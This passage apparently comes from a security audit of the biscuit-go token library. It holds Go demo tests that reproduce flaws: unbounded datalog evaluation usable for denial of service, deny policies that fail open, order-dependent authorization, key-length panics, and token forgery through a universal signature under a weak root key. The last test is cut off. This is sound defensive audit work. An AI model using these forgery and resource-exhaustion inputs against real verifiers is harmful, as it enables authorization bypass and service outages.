		if err := bb.AddBlock(pb); err != nil {
			t.Fatal(err)
		}
		tok, err = tok.Append(rand.Reader, bb.Build())
		if err != nil {
			t.Fatal(err)
		}
	}
	// go through the wire like a real verifier would
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	tok, err = biscuit.Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	return tok, pub
}

// F2: checks and policies are evaluated through World.QueryRule (datalog.go:446-450), which calls
// Rule.Apply synchronously with NO duration, iteration or fact limit. A token holder can append
// (attenuation needs no secret) a block with ~100 facts and one check that is a wide join: the
// verifier's Authorize() then runs for as long as the attacker likes although the authorizer was
// created with WithMaxDuration(100ms). No limit error is ever produced.
func TestC11_CheckEvaluationIgnoresMaxDuration(t *testing.T) {
	var sb strings.Builder
	for i := 0; i < 50; i++ {
		fmt.Fprintf(&sb, "n(%d);\n", i)
	}
	// 50^4 = 6.25e6 candidate tuples, a few seconds (100 facts: ~1 minute measured); every further n($e) multiplies by the fact count.
	sb.WriteString("check if n($a), n($b), n($c), n($d), absent($a);\n")

	tok, pub := c11Token(t, `right("file1", "read");`, sb.String())

	const budget = 100 * time.Millisecond
	a, err := tok.Authorizer(pub, biscuit.WithWorldOptions(
		datalog.WithMaxDuration(budget),
		datalog.WithMaxFacts(1000),
		datalog.WithMaxIterations(100),
	))
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(biscuit.DefaultAllowPolicy)

	start := time.Now()
	err = a.Authorize()
	elapsed := time.Since(start)
	t.Logf("Authorize returned after %v with: %.120v", elapsed, err)
	// 2 worlds are run (authority + 1 block): anything beyond a generous 10x budget is not "bounded by maxDuration".
	if elapsed > 10*budget {
		t.Errorf("VIOLATION: Authorize took %v with WithMaxDuration(%v); limit error reported: %v", elapsed, budget, c11IsLimitErr(err))
	}
}

// F2 (same root cause, other entry point): Authorizer.Query evaluates the queried rule with
// QueryRule, so the limits given to the authorizer do not bound it, neither in time nor in
// the number of produced facts (maxFacts=200 here, 10000 facts come back).
func TestC11_QueryIgnoresLimits(t *testing.T) {
	tok, pub := c11Token(t, `right("file1", "read");`)
	const budget = 50 * time.Millisecond
	a, err := tok.Authorizer(pub, biscuit.WithWorldOptions(
		datalog.WithMaxDuration(budget),
		datalog.WithMaxFacts(200),
		datalog.WithMaxIterations(100),
	))
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 100; i++ {
		f, err := parser.FromStringFact(fmt.Sprintf("n(%d)", i))
		if err != nil {
			t.Fatal(err)
		}
		a.AddFact(f)
	}
	rule, err := parser.FromStringRule(`pair($a, $b) <- n($a), n($b)`)
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	res, err := a.Query(rule)
	elapsed := time.Since(start)
	t.Logf("Query returned %d facts, err=%v, after %v", len(res), err, elapsed)
	if err == nil && len(res) >= 200 {
		t.Errorf("VIOLATION: Query produced %d facts with WithMaxFacts(200) and no error", len(res))
	}
	if elapsed > 10*budget {
		t.Errorf("VIOLATION: Query took %v with WithMaxDuration(%v), err=%v", elapsed, budget, err)
	}
}

// F3: QueryRule discards the error of Rule.Apply (datalog.go:448). An evaluation that aborted on
// an expression error is reported as success with whatever was derived before the error:
//   - Authorizer.Query returns a truncated fact set and a nil error (silent truncation);
//   - a check is reported as satisfied although its evaluation failed -- and whether it is
//     depends only on the order of the facts.
//
// The same program given to World.Run (as a rule) makes Run/Authorize fail with the overflow error.
func TestC11_QuerySilentlyTruncatesOnExpressionError(t *testing.T) {
	tok, pub := c11Token(t, `right("file1", "read");`)
	opts := biscuit.WithWorldOptions(datalog.WithMaxDuration(10 * time.Second))

	rule, err := parser.FromStringRule(fmt.Sprintf(`ok($x) <- n($x), $x + %d > 0`, int64(math.MaxInt64)))
	if err != nil {
		t.Fatal(err)
	}

	// reference: the very same rule inside the world is an evaluation error
	ref, _ := tok.Authorizer(pub, opts)
	for _, s := range []string{"n(0)", "n(1)", "n(2)"} {
		f, _ := parser.FromStringFact(s)
		ref.AddFact(f)
	}
	ref.AddRule(rule)
	ref.AddPolicy(biscuit.DefaultAllowPolicy)
	refErr := ref.Authorize()
	if refErr == nil || !errors.Is(refErr, datalog.ErrInt64Overflow) {
		t.Fatalf("reference: expected overflow error from Authorize, got %v", refErr)
	}

	a, _ := tok.Authorizer(pub, opts)
	for _, s := range []string{"n(0)", "n(1)", "n(2)"} { // n(0) evaluates fine, n(1) overflows, n(2) is never looked at
		f, _ := parser.FromStringFact(s)
		a.AddFact(f)
	}
	res, err := a.Query(rule)
	t.Logf("Query: %v, err=%v", res, err)
	if err == nil {
		t.Errorf("VIOLATION: Query returned nil error and %d fact(s) although evaluation aborted with an int64 overflow (Authorize on the same rule fails with %q)", len(res), refErr)
	}

	// same through a check: it "passes" on a prefix of the facts
	c, _ := tok.Authorizer(pub, opts)
	for _, s := range []string{"n(0)", "n(1)"} {
		f, _ := parser.FromStringFact(s)
		c.AddFact(f)
	}
	c.AddCheck(biscuit.Check{Queries: []biscuit.Rule{rule}})
	c.AddPolicy(biscuit.DefaultAllowPolicy)
	errFwd := c.Authorize()

	d, _ := tok.Authorizer(pub, opts)
	for _, s := range []string{"n(1)", "n(0)"} { // same facts, other order
		f, _ := parser.FromStringFact(s)
		d.AddFact(f)
	}
	d.AddCheck(biscuit.Check{Queries: []biscuit.Rule{rule}})
	d.AddPolicy(biscuit.DefaultAllowPolicy)
	errRev := d.Authorize()
	t.Logf("check, facts n(0),n(1): %v ; facts n(1),n(0): %v", errFwd, errRev)
	if (errFwd == nil) != (errRev == nil) {
		t.Errorf("VIOLATION: a check whose evaluation hits an expression error succeeds or fails depending on fact order: %v vs %v", errFwd, errRev)
	}
	if errFwd == nil {
		t.Errorf("VIOLATION: Authorize succeeded although the evaluation of a check aborted with an expression error")
	}
}

// F3 (invalid rule outcome): World.Run reports InvalidRuleError for a head variable that is not
// bound by the body; Authorizer.Query reports success with an empty result for the same rule.
func TestC11_QuerySwallowsInvalidRule(t *testing.T) {
	tok, pub := c11Token(t, `right("file1", "read");`)
	a, _ := tok.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(10*time.Second)))
	rule := biscuit.Rule{
		Head: biscuit.Predicate{Name: "out", IDs: []biscuit.Term{biscuit.Variable("unbound")}},
		Body: []biscuit.Predicate{{Name: "right", IDs: []biscuit.Term{biscuit.Variable("f"), biscuit.Variable("op")}}},
	}
	// the token facts are only loaded by Authorize: give the authorizer a matching fact itself
	f, _ := parser.FromStringFact(`right("file2", "read")`)
	a.AddFact(f)
	res, err := a.Query(rule)
	t.Logf("Query(invalid rule): %v, err=%v", res, err)
	if err == nil {
		t.Errorf("VIOLATION: Query of an invalid rule (head variable absent from body) returned success with %d facts; World.Run reports InvalidRuleError for the same rule", len(res))
	}
}

// F4: WithWorldOptions replaces the whole base world (authorizer.go:53-57) instead of applying
// the options to it, so limits supplied in an earlier WithWorldOptions are silently reset to the
// defaults by a later one.
func TestC11_WithWorldOptionsNotCumulative(t *testing.T) {
	var sb strings.Builder
	for i := 0; i < 20; i++ {
		fmt.Fprintf(&sb, "n(%d);\n", i)
	}
	tok, pub := c11Token(t, sb.String())

	run := func(opts ...biscuit.AuthorizerOption) error {
		a, err := tok.Authorizer(pub, opts...)
		if err != nil {
			t.Fatal(err)
		}
		a.AddPolicy(biscuit.DefaultAllowPolicy)
		return a.Authorize()
	}

	one := run(biscuit.WithWorldOptions(datalog.WithMaxFacts(10), datalog.WithMaxDuration(10*time.Second)))
	if !errors.Is(one, datalog.ErrWorldRunLimitMaxFacts) {
		t.Fatalf("single option list: expected fact limit error, got %v", one)
	}
	two := run(
		biscuit.WithWorldOptions(datalog.WithMaxFacts(10)),
		biscuit.WithWorldOptions(datalog.WithMaxDuration(10*time.Second)),
	)
	if !errors.Is(two, datalog.ErrWorldRunLimitMaxFacts) {
		t.Errorf("VIOLATION: WithMaxFacts(10) supplied at creation is not honoured when a second WithWorldOptions follows: Authorize returned %v for a 20-fact token", two)
	}
}

// F3 (fail-open variant): a deny policy whose evaluation aborts with an expression error is treated
// as "did not match", so the next allow policy authorizes the request.
func TestC11_DenyPolicyWithExpressionErrorIsSkipped(t *testing.T) {
	tok, pub := c11Token(t, `right("file1", "read");`)
	a, _ := tok.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(10*time.Second)))
	for _, s := range []string{"n(1)", "n(0)"} {
		f, _ := parser.FromStringFact(s)
		a.AddFact(f)
	}
	// matches n(0) (0 + MaxInt64 > 0) -- but n(1) comes first and overflows, which aborts the query
	deny, err := parser.FromStringRule(fmt.Sprintf(`deny($x) <- n($x), $x + %d > 0`, int64(math.MaxInt64)))
	if err != nil {
		t.Fatal(err)
	}
	a.AddPolicy(biscuit.Policy{Kind: biscuit.PolicyKindDeny, Queries: []biscuit.Rule{deny}})
	a.AddPolicy(biscuit.DefaultAllowPolicy)
	if err := a.Authorize(); err == nil {
		t.Errorf("VIOLATION: Authorize succeeded: the deny policy (which matches n(0)) was skipped because its evaluation aborted on an expression error that was discarded")
	}
}

// F1a through the public authorizer API: the token holder appends a block with one wide-join rule.
// Authorize correctly fails with the timeout error after ~budget, but every such call leaves a
// goroutine pair spinning on a CPU (here checked 2 s later; the search space is 200^5 tuples).
func TestC11_AuthorizeLeavesSpinningGoroutines(t *testing.T) {
	var sb strings.Builder
	for i := 0; i < 200; i++ {
		fmt.Fprintf(&sb, "n(%d);\n", i)
	}
	sb.WriteString("r($a) <- n($a), n($b), n($c), n($d), n($e), absent($a);\n")
	tok, pub := c11Token(t, `right("file1", "read");`, sb.String())

	before := c11EngineGoroutines()

	const requests = 3
	for i := 0; i < requests; i++ {
		a, err := tok.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(50*time.Millisecond)))
		if err != nil {
			t.Fatal(err)
		}
		a.AddPolicy(biscuit.DefaultAllowPolicy)
		start := time.Now()
		err = a.Authorize()
		if !errors.Is(err, datalog.ErrWorldRunLimitTimeout) {
			t.Fatalf("expected timeout, got %v", err)
		}
		t.Logf("request %d: Authorize returned %q after %v", i, err, time.Since(start))
	}
	time.Sleep(2 * time.Second)
	if n, _ := c11NewEngineGoroutines(before); n > 0 {
		t.Errorf("VIOLATION: %d engine goroutines still alive 2s after %d Authorize calls returned with a 50ms deadline", n, requests)
	}
}

// F1a: World.Run returns ErrWorldRunLimitTimeout on time, but the goroutines it started
// (the Run worker and the combine producer) are not stopped: the deadline is only polled between
// rules (datalog.go:368-377), never inside Rule.Apply / combine. With a single wide join they keep
// burning a CPU long after Run returned (here: still alive 3 s after a 50 ms deadline; with this
// input the join is 300^5 = 2.4e12 candidate tuples, i.e. hours).
func TestC11_StrandedWorkerSpinsAfterTimeout(t *testing.T) {
	syms := &datalog.SymbolTable{}
	p := syms.Insert("p")
	q := syms.Insert("q")
	r := syms.Insert("r")

	w := datalog.NewWorld(
		datalog.WithMaxDuration(50*time.Millisecond),
		datalog.WithMaxFacts(1000),
		datalog.WithMaxIterations(100),
	)
	for i := 0; i < 300; i++ {
		w.AddFact(datalog.Fact{Predicate: datalog.Predicate{Name: p, Terms: []datalog.Term{datalog.Integer(i)}}})
	}
	v := func(i int) datalog.Term { return datalog.Variable(i) }
	// r($0) <- p($0), p($1), p($2), p($3), p($4), q($0)      (no q fact exists: no result, pure search)
	w.AddRule(datalog.Rule{
		Head: datalog.Predicate{Name: r, Terms: []datalog.Term{v(0)}},
		Body: []datalog.Predicate{
			{Name: p, Terms: []datalog.Term{v(0)}},
			{Name: p, Terms: []datalog.Term{v(1)}},
			{Name: p, Terms: []datalog.Term{v(2)}},
			{Name: p, Terms: []datalog.Term{v(3)}},
			{Name: p, Terms: []datalog.Term{v(4)}},
			{Name: q, Terms: []datalog.Term{v(0)}},
		},
	})

	before := c11EngineGoroutines() // leftovers of the previous tests are not counted
	start := time.Now()
	err := w.Run(syms)
	elapsed := time.Since(start)
	if !errors.Is(err, datalog.ErrWorldRunLimitTimeout) {
		t.Fatalf("expected timeout, got %v", err)
	}
	t.Logf("Run returned %v after %v", err, elapsed)

	time.Sleep(3 * time.Second) // 60x the configured budget
	if n, stacks := c11NewEngineGoroutines(before); n > 0 {
		t.Errorf("VIOLATION: %d engine goroutine(s) still running 3s after Run returned with a 50ms deadline (stranded, CPU-bound work):\n%s",
			n, stacks)
	}
}
