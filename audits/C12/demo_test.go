// Demo tests for property C12 (authorization is deterministic and independent of
// presentation order).
//
// Package directory: the repository ROOT (package biscuit_test, next to example_test.go).
//   cp demo_test.go <repo>/c12_demo_test.go
//   GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -run 'TestC12' -count=1 .
//
// Every test FAILS on the unchanged library exactly when the violation is present.
package biscuit_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/parser"
)

var c12Limits = biscuit.WithWorldOptions(
	datalog.WithMaxDuration(30*time.Second),
	datalog.WithMaxFacts(100000),
	datalog.WithMaxIterations(1000),
)

func c12Outcome(err error) string {
	switch {
	case err == nil:
		return "allow"
	case errors.Is(err, biscuit.ErrPolicyDenied):
		return "deny-policy"
	case errors.Is(err, biscuit.ErrNoMatchingPolicy):
		return "no-matching-policy"
	case strings.Contains(err.Error(), "failed to verify"):
		return "check-failed"
	default:
		return "error: " + err.Error()
	}
}

// c12Token builds a token whose authority block contains the given facts (in that order)
// plus the given checks, round-trips it through the wire format and returns an authorizer.
func c12Authorizer(t *testing.T, authorityFacts []string, authorityChecks []string, opts ...biscuit.AuthorizerOption) biscuit.Authorizer {
	t.Helper()
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	b := biscuit.NewBuilder(priv)
	for _, f := range authorityFacts {
		fact, err := parser.FromStringFact(f)
		if err != nil {
			t.Fatalf("parse fact %q: %v", f, err)
		}
		if err := b.AddAuthorityFact(fact); err != nil {
			t.Fatalf("add fact %q: %v", f, err)
		}
	}
	for _, c := range authorityChecks {
		check, err := parser.FromStringCheck(c)
		if err != nil {
			t.Fatalf("parse check %q: %v", c, err)
		}
		if err := b.AddAuthorityCheck(check); err != nil {
			t.Fatal(err)
		}
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	tok2, err := biscuit.Unmarshal(ser)
	if err != nil {
		t.Fatal(err)
	}
	if len(opts) == 0 {
		opts = []biscuit.AuthorizerOption{c12Limits}
	}
	a, err := tok2.Authorizer(pub, opts...)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func c12FactStrings(fs biscuit.FactSet) []string {
	out := make([]string, 0, len(fs))
	for _, f := range fs {
		out = append(out, f.String())
	}
	sort.Strings(out)
	return out
}

// ---------------------------------------------------------------------------------------------
// Finding 1: an expression evaluation error inside a check / policy / Query is swallowed by
// World.QueryRule, which keeps the matches found BEFORE the error and drops those after it.
// The outcome therefore depends on the order in which the facts were presented.
// ---------------------------------------------------------------------------------------------

// 1a: facts in the token's authority block, check in the authorizer. Heterogeneous predicate
// (one integer, one string) and a comparison that is only defined on integers.
func TestC12_F1a_TokenFactOrder_TypeMismatchInCheck(t *testing.T) {
	run := func(facts []string) string {
		a := c12Authorizer(t, facts, nil)
		check, err := parser.FromStringCheck(`check if level($x), $x < 5`)
		if err != nil {
			t.Fatal(err)
		}
		a.AddCheck(check)
		a.AddPolicy(biscuit.DefaultAllowPolicy)
		return c12Outcome(a.Authorize())
	}
	o1 := run([]string{`level(1)`, `level("high")`})
	o2 := run([]string{`level("high")`, `level(1)`})
	if o1 != o2 {
		t.Errorf("same authority facts, permuted: outcome %q vs %q", o1, o2)
	}
}

// 1b: everything supplied to the authorizer; division by zero on one of the facts.
func TestC12_F1b_AuthorizerFactOrder_DivByZeroInCheck(t *testing.T) {
	run := func(facts []string) string {
		a := c12Authorizer(t, []string{`user("alice")`}, nil)
		for _, f := range facts {
			fact, err := parser.FromStringFact(f)
			if err != nil {
				t.Fatal(err)
			}
			a.AddFact(fact)
		}
		check, err := parser.FromStringCheck(`check if quota($x), 10 / $x == 2`)
		if err != nil {
			t.Fatal(err)
		}
		a.AddCheck(check)
		a.AddPolicy(biscuit.DefaultAllowPolicy)
		return c12Outcome(a.Authorize())
	}
	o1 := run([]string{`quota(5)`, `quota(0)`})
	o2 := run([]string{`quota(0)`, `quota(5)`})
	if o1 != o2 {
		t.Errorf("same authorizer facts, permuted: outcome %q vs %q", o1, o2)
	}
}

// 1c: the same on a policy: the allow policy matches or not depending on the order of facts,
// so the final decision flips between allow and deny.
func TestC12_F1c_FactOrder_PolicyDecisionFlips(t *testing.T) {
	run := func(facts []string) string {
		a := c12Authorizer(t, facts, nil)
		allow, err := parser.FromStringPolicy(`allow if pattern($p), "/admin/x".matches($p)`)
		if err != nil {
			t.Fatal(err)
		}
		a.AddPolicy(allow)
		a.AddPolicy(biscuit.DefaultDenyPolicy)
		return c12Outcome(a.Authorize())
	}
	// "[" is not a valid regular expression -> evaluation error for that fact
	o1 := run([]string{`pattern("^/admin/")`, `pattern("[")`})
	o2 := run([]string{`pattern("[")`, `pattern("^/admin/")`})
	if o1 != o2 {
		t.Errorf("same facts, permuted: decision %q vs %q", o1, o2)
	}
}

// 1d: the Query API returns a different SET of facts depending on presentation order.
func TestC12_F1d_FactOrder_QueryResultSet(t *testing.T) {
	run := func(facts []string) []string {
		a := c12Authorizer(t, facts, nil)
		a.AddPolicy(biscuit.DefaultAllowPolicy)
		if err := a.Authorize(); err != nil {
			t.Fatalf("authorize: %v", err)
		}
		rule, err := parser.FromStringRule(`small($x) <- n($x), $x < 10`)
		if err != nil {
			t.Fatal(err)
		}
		res, err := a.Query(rule)
		if err != nil {
			t.Fatalf("query: %v", err)
		}
		return c12FactStrings(res)
	}
	r1 := run([]string{`n(1)`, `n(2)`, `n("three")`, `n(4)`})
	r2 := run([]string{`n(4)`, `n("three")`, `n(2)`, `n(1)`})
	if fmt.Sprint(r1) != fmt.Sprint(r2) {
		t.Errorf("same facts, permuted: Query result %v vs %v", r1, r2)
	}
}

// ---------------------------------------------------------------------------------------------
// Finding 2: datalog.Set.Equal is not symmetric when a set literal repeats an element
// ([1, 1] "equals" [1, 2] but not the reverse; nothing de-duplicates set literals). FactSet.Insert
// uses it for de-duplication, so which facts survive depends on the order of insertion.
// ---------------------------------------------------------------------------------------------

func TestC12_F2a_FactOrder_SetWithRepeatedElement(t *testing.T) {
	run := func(facts []string) string {
		a := c12Authorizer(t, []string{`user("alice")`}, nil)
		for _, f := range facts {
			fact, err := parser.FromStringFact(f)
			if err != nil {
				t.Fatal(err)
			}
			a.AddFact(fact)
		}
		check, err := parser.FromStringCheck(`check if scopes($s), $s.contains(2)`)
		if err != nil {
			t.Fatal(err)
		}
		a.AddCheck(check)
		a.AddPolicy(biscuit.DefaultAllowPolicy)
		return c12Outcome(a.Authorize())
	}
	o1 := run([]string{`scopes([1, 2])`, `scopes([1, 1])`})
	o2 := run([]string{`scopes([1, 1])`, `scopes([1, 2])`})
	if o1 != o2 {
		t.Errorf("same facts, permuted: outcome %q vs %q", o1, o2)
	}
}

// 2b: same defect seen through the set of facts (Query) with the token carrying one fact and the
// authorizer the other: the world contains one or two scopes facts depending on who comes first.
func TestC12_F2b_FactSetDependsOnOrder(t *testing.T) {
	run := func(facts []string) []string {
		a := c12Authorizer(t, []string{`user("alice")`}, nil)
		for _, f := range facts {
			fact, err := parser.FromStringFact(f)
			if err != nil {
				t.Fatal(err)
			}
			a.AddFact(fact)
		}
		a.AddPolicy(biscuit.DefaultAllowPolicy)
		if err := a.Authorize(); err != nil {
			t.Fatalf("authorize: %v", err)
		}
		rule, err := parser.FromStringRule(`out($s) <- scopes($s)`)
		if err != nil {
			t.Fatal(err)
		}
		res, err := a.Query(rule)
		if err != nil {
			t.Fatal(err)
		}
		return c12FactStrings(res)
	}
	r1 := run([]string{`scopes(["a", "b"])`, `scopes(["a", "a"])`})
	r2 := run([]string{`scopes(["a", "a"])`, `scopes(["a", "b"])`})
	if fmt.Sprint(r1) != fmt.Sprint(r2) {
		t.Errorf("same facts, permuted: derived facts %v vs %v", r1, r2)
	}
}

// 2c: consequence that does not even need a permutation: a fact scopes([1, 1]) satisfies the
// check `check if scopes([1, 2])` (Predicate.Match uses the same asymmetric Equal), while
// the fact scopes([1, 2]) does not satisfy `check if scopes([1, 1])`.
func TestC12_F2c_SetLiteralMatchIsAsymmetric(t *testing.T) {
	run := func(fact, check string) string {
		a := c12Authorizer(t, []string{fact}, nil)
		c, err := parser.FromStringCheck(check)
		if err != nil {
			t.Fatal(err)
		}
		a.AddCheck(c)
		a.AddPolicy(biscuit.DefaultAllowPolicy)
		return c12Outcome(a.Authorize())
	}
	o1 := run(`scopes([1, 1])`, `check if scopes([1, 2])`)
	o2 := run(`scopes([1, 2])`, `check if scopes([1, 1])`)
	if o1 != "check-failed" || o2 != "check-failed" {
		t.Errorf("distinct sets must not match each other: fact [1,1] vs check [1,2] -> %q ; fact [1,2] vs check [1,1] -> %q", o1, o2)
	}
}

// 2d: the token builder uses the same FactSet.Insert: the same two facts are accepted in one
// order and rejected with ErrDuplicateFact in the other.
func TestC12_F2d_BuilderAcceptsOrRejectsDependingOnOrder(t *testing.T) {
	run := func(facts []string) error {
		_, priv, _ := ed25519.GenerateKey(rand.Reader)
		b := biscuit.NewBuilder(priv)
		for _, f := range facts {
			fact, err := parser.FromStringFact(f)
			if err != nil {
				t.Fatal(err)
			}
			if err := b.AddAuthorityFact(fact); err != nil {
				return err
			}
		}
		return nil
	}
	e1 := run([]string{`scopes([1, 2])`, `scopes([1, 1])`})
	e2 := run([]string{`scopes([1, 1])`, `scopes([1, 2])`})
	if (e1 == nil) != (e2 == nil) {
		t.Errorf("same two facts, permuted: builder result %v vs %v", e1, e2)
	}
}

// ---------------------------------------------------------------------------------------------
// Finding 3: LoadPolicies replaces the authorizer's symbol table, but the facts/rules that were
// already added keep their old symbol indexes. Supplying the same fact before or after the same
// LoadPolicies call gives different outcomes (before: the fact is silently re-labelled).
// ---------------------------------------------------------------------------------------------

func TestC12_F3_AddFactBeforeOrAfterLoadPolicies(t *testing.T) {
	// policies: one check and one allow policy, serialized by a scratch authorizer
	src := c12Authorizer(t, []string{`user("alice")`}, nil)
	check, err := parser.FromStringCheck(`check if access("superadmin")`)
	if err != nil {
		t.Fatal(err)
	}
	src.AddCheck(check)
	src.AddPolicy(biscuit.DefaultAllowPolicy)
	policies, err := src.SerializePolicies()
	if err != nil {
		t.Fatal(err)
	}

	// an unrelated fact: it must never satisfy `check if access("superadmin")`
	fact, err := parser.FromStringFact(`colour("blue")`)
	if err != nil {
		t.Fatal(err)
	}

	after := c12Authorizer(t, []string{`user("alice")`}, nil)
	if err := after.LoadPolicies(policies); err != nil {
		t.Fatal(err)
	}
	after.AddFact(fact)
	oAfter := c12Outcome(after.Authorize())

	before := c12Authorizer(t, []string{`user("alice")`}, nil)
	before.AddFact(fact)
	if err := before.LoadPolicies(policies); err != nil {
		t.Fatal(err)
	}
	oBefore := c12Outcome(before.Authorize())

	if oAfter != oBefore {
		t.Errorf("same fact and same policies, supplied in a different order: %q (fact after LoadPolicies) vs %q (fact before LoadPolicies); world of the latter:\n%s",
			oAfter, oBefore, before.PrintWorld())
	}
}

// ---------------------------------------------------------------------------------------------
// Observation 4 (outside the error-free fragment, reported for completeness): when Authorize
// fails on a run limit, the partial progress stays in the world, so simply calling Authorize
// again on the same authorizer ends up succeeding: the limit is not a limit across retries.
// ---------------------------------------------------------------------------------------------

func TestC12_O4_RepeatedAuthorizeDefeatsIterationLimit(t *testing.T) {
	facts := []string{`reach(0)`}
	for i := 0; i < 40; i++ {
		facts = append(facts, fmt.Sprintf("next(%d, %d)", i, i+1))
	}
	a := c12Authorizer(t, facts, nil, biscuit.WithWorldOptions(
		datalog.WithMaxDuration(30*time.Second),
		datalog.WithMaxFacts(100000),
		datalog.WithMaxIterations(10),
	))
	rule, err := parser.FromStringRule(`reach($y) <- reach($x), next($x, $y)`)
	if err != nil {
		t.Fatal(err)
	}
	a.AddRule(rule)
	a.AddPolicy(biscuit.DefaultAllowPolicy)

	first := c12Outcome(a.Authorize())
	var outcomes []string
	outcomes = append(outcomes, first)
	for i := 0; i < 8; i++ {
		outcomes = append(outcomes, c12Outcome(a.Authorize()))
	}
	for _, o := range outcomes[1:] {
		if o != first {
			t.Errorf("repeating Authorize on the same authorizer changed the outcome: %q", outcomes)
			break
		}
	}
}
