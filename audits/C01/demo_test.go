// Audit C01 demo tests. Belongs to the module root directory (package biscuit_test, next to biscuit.go).
// Only the public API and the generated pb package are used.
// Every test fails on the unchanged library exactly when the violation it describes is present.
package biscuit_test

import (
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"testing"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

func c01Token(t *testing.T, priv ed25519.PrivateKey, blocks int) *biscuit.Biscuit {
	t.Helper()
	b := biscuit.NewBuilder(priv)
	if err := b.AddAuthorityFact(biscuit.Fact{Predicate: biscuit.Predicate{Name: "right", IDs: []biscuit.Term{biscuit.String("file1"), biscuit.String("read")}}}); err != nil {
		t.Fatal(err)
	}
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < blocks; i++ {
		bb := tok.CreateBlock()
		if err := bb.AddFact(biscuit.Fact{Predicate: biscuit.Predicate{Name: "extra", IDs: []biscuit.Term{biscuit.Integer(i)}}}); err != nil {
			t.Fatal(err)
		}
		if tok, err = tok.Append(rand.Reader, bb.Build()); err != nil {
			t.Fatal(err)
		}
	}
	return tok
}

func c01Container(t *testing.T, tok *biscuit.Biscuit) *pb.Biscuit {
	t.Helper()
	ser, err := tok.Serialize()
	if err != nil {
		t.Fatal(err)
	}
	c := new(pb.Biscuit)
	if err := proto.Unmarshal(ser, c); err != nil {
		t.Fatal(err)
	}
	return c
}

// verdict: (accepted, error, panic value)
func c01Verify(data []byte, source biscuit.PublickKeyByIDProjection) (accepted bool, err error, panicked interface{}) {
	defer func() {
		if r := recover(); r != nil {
			accepted, panicked = false, r
		}
	}()
	tok, err := biscuit.Unmarshal(data)
	if err != nil {
		return false, err, nil
	}
	_, err = tok.AuthorizerFor(source)
	return err == nil, err, nil
}

// Finding 1: a root public key whose length is not 32 (and not 0) makes verification panic inside
// crypto/ed25519 instead of rejecting the token with an error. Both entry points are affected.
func TestC01_RootKeyOfWrongLengthPanics(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	ser, err := c01Token(t, priv, 1).Serialize()
	if err != nil {
		t.Fatal(err)
	}
	candidates := map[string]ed25519.PublicKey{
		"31 bytes (truncated)":          pub[:31],
		"33 bytes":                      append(append(ed25519.PublicKey{}, pub...), 0),
		"64 bytes (the private key)":    ed25519.PublicKey(priv),
		"1 byte":                        {0x01},
		"hex text of the key, 64 bytes": ed25519.PublicKey(fmt.Sprintf("%x", []byte(pub))),
	}
	for name, key := range candidates {
		accepted, err, p := c01Verify(ser, biscuit.WithSingularRootPublicKey(key))
		if p != nil {
			t.Errorf("AuthorizerFor, root key of %s: panic %q instead of an error", name, p)
		} else if accepted || err == nil {
			t.Errorf("AuthorizerFor, root key of %s: accepted", name)
		}
		id := uint32(7)
		k := key
		accepted, err, p = c01Verify(ser, biscuit.WithRootPublicKeys(map[uint32]ed25519.PublicKey{id: key}, &k))
		if p != nil {
			t.Errorf("AuthorizerFor/WithRootPublicKeys, root key of %s: panic %q instead of an error", name, p)
		} else if accepted || err == nil {
			t.Errorf("AuthorizerFor/WithRootPublicKeys, root key of %s: accepted", name)
		}
	}
	// the older entry point panics for the empty key as well
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("Authorizer(nil root key): panic %q instead of an error", r)
			}
		}()
		tok, err := biscuit.Unmarshal(ser)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := tok.Authorizer(nil); err == nil {
			t.Errorf("Authorizer(nil root key): accepted")
		}
	}()
}

// the encoding of the neutral element of the curve, a public key without private key
var c01Neutral = append([]byte{1}, make([]byte, 31)...)

// a signature that crypto/ed25519 accepts for EVERY message under the neutral-element key: R = neutral, S = 0
var c01Universal = append(append([]byte{}, c01Neutral...), make([]byte, 32)...)

// Finding 2a: weak (small order) root keys are accepted. Under the neutral-element key every token "verifies":
// a party without any private key turns a token made under its own root into one accepted under K.
func TestC01_WeakRootKeyAcceptsForgedAuthority(t *testing.T) {
	_, attackerPriv, _ := ed25519.GenerateKey(rand.Reader)
	c := c01Container(t, c01Token(t, attackerPriv, 1))
	c.Authority.Signature = c01Universal // no private key involved
	forged, err := proto.Marshal(c)
	if err != nil {
		t.Fatal(err)
	}
	accepted, err, p := c01Verify(forged, biscuit.WithSingularRootPublicKey(c01Neutral))
	if p != nil {
		t.Fatalf("panic: %v", p)
	}
	if accepted {
		t.Errorf("token whose authority block was signed by nobody is accepted under the weak root key %x", c01Neutral)
	} else {
		t.Logf("rejected: %v", err)
	}

	// the all-zero key (what an uninitialised [32]byte holds) is a point of order 4: one forgery attempt in four succeeds
	zero := make([]byte, 32)
	for try := 0; try < 200; try++ {
		c := c01Container(t, c01Token(t, attackerPriv, 0)) // a fresh next key every time: a fresh message
		c.Authority.Signature = c01Universal
		forged, _ := proto.Marshal(c)
		accepted, _, p := c01Verify(forged, biscuit.WithSingularRootPublicKey(zero))
		if p != nil {
			t.Fatalf("panic: %v", p)
		}
		if accepted {
